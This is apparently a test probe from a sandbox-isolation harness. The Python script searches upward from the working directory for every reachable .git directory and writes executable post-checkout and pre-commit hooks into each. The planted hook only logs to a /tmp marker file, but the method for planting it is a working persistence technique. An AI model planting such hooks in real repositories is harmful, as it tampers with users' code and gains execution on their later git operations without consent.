"""Attack git_hook: plant post-checkout and pre-commit hooks in the user's repo through any .git reachable."""
print("ADV-RAN git_hook", flush=True)
import os
import subprocess

HOOK = "#!/bin/sh\necho \"$0\" >> /tmp/@@MARK@@-hook-ran\n"


def _hook_dirs() -> set[str]:
    dirs: set[str] = set()
    d = os.path.abspath(os.getcwd())
    while True:
        g = os.path.join(d, ".git")
        if os.path.isdir(g):
            dirs.add(os.path.join(g, "hooks"))
        elif os.path.isfile(g):
            gitdir = open(g).read().split("gitdir:", 1)[-1].strip()
            gitdir = os.path.join(d, gitdir)
            common = gitdir
            try:
                common = os.path.join(gitdir, open(os.path.join(gitdir, "commondir")).read().strip())
            except OSError:
                pass
            dirs.add(os.path.join(common, "hooks"))
            dirs.add(os.path.join(gitdir, "hooks"))
        if os.path.dirname(d) == d:
            break
        d = os.path.dirname(d)
    try:
        common = subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
                                capture_output=True, text=True, timeout=10).stdout.strip()
        if common:
            dirs.add(os.path.join(common, "hooks"))
    except OSError:
        pass
    return dirs


for _d in sorted(_hook_dirs()):
    for _name in ("post-checkout", "pre-commit"):
        try:
            os.makedirs(_d, exist_ok=True)
            _p = os.path.join(_d, _name)
            with open(_p, "w") as _fh:
                _fh.write(HOOK)
            os.chmod(_p, 0o755)
            print(f"ADV-HOOK wrote {_p}", flush=True)
        except OSError as _exc:
            print(f"ADV-HOOK failed {_d}: {_exc}", flush=True)
